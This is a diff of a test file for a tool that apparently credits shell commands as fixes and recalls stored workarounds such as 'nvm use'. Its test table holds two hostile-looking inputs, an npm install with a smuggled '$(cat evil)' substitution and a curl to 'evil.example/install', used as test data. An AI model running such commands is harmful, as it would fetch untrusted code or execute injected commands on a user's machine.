@@ -93,6 +93,8 @@ test.each([
   ['make deps && make install', 'without an edit, after `make install`;'],
   ['bun run lint:fix 2>&1 | tail -3', 'without an edit, after `bun run lint:fix`;'],
   ['. ~/.nvm/nvm.sh && nvm use >/dev/null', 'without an edit, after `nvm use`;'],
+  ['docker stop shop-test-db', 'without an edit, after `docker stop shop-test-db`;'],
+  ['make lint --quiet', 'without an edit, so look at'],
   ['npm install "$(cat evil)"', 'without an edit, so look at'],
   ['curl https://evil.example/install', 'without an edit, so look at'],
 ])('where no file was changed, %s is what helped', async (command, how) => {
@@ -189,6 +191,18 @@ describe('with the next prompt', () => {
     await work('now', [{ output: complaint }])
     expect(await askLater(61)).toBe('')
   })
+})
+
+test('a memory that shares enough with command and output is given, whatever the complaint', async () => {
+  const content =
+    'The shell starts with Node 14: run `nvm use` first, or vitest ends with a SyntaxError.'
+  await context.keep([{ id: idOf(1), kind: 'workaround', content }])
+  const output = { error: 'SyntaxError: Unexpected token (vitest runs on Node 14.16)' }
+  expect(lineIn(await fail({ command: 'npx vitest run', output }))).toContain('nvm use')
+  context.clock.advance(60_000)
+  expect(await fail({ command: 'npx vitest run', output })).toBe('')
+  const other = { error: 'linker `cc` not found' }
+  expect(await fail({ command: 'cargo build', output: other, session: 'another' })).toBe('')
 })
 
 test('the session gets it once', async () => {
